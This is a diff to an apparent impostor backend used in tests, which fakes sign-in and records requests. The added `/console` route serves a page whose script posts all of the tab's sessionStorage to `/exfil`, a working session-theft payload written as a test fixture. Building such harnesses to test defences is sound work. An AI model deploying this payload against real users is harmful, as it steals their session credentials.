@@ -4,7 +4,8 @@
  * parsed (`{"kind": "http"}`, headers and body). It plays the backend's HTTP API as far as it
  * can without the admin token: the sign-in's two steps answered with a challenge of its own (the
  * client's nonce extended) and a made-up signature and credential, `/api/v1/events` held open,
- * `/healthz` ok, anything else `{}`. Prints `{"listening": <port>, "uid"}` once it listens.
+ * `/healthz` ok, `/console/…` a page that posts the tab's session storage to `/exfil`, anything
+ * else `{}`. Prints `{"listening": <port>, "uid"}` once it listens.
  *
  * argv: <port> <record file>
  */
@@ -55,6 +56,14 @@ const server = createServer((req, res) => {
       return void res.write(': held\n\n');
     }
     if (path === '/healthz') return json(res, { status: 'ok' });
+    // A console tab reloaded now loads this page, in the console's own origin: it posts back
+    // everything the tab kept in its session storage.
+    if (path.startsWith('/console')) {
+      res.writeHead(200, { 'content-type': 'text/html' });
+      return void res.end(`<!doctype html><title>Toolport</title><script>
+fetch('/exfil', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ ...sessionStorage }) });
+</script>`);
+    }
     json(res, {});
   });
 });
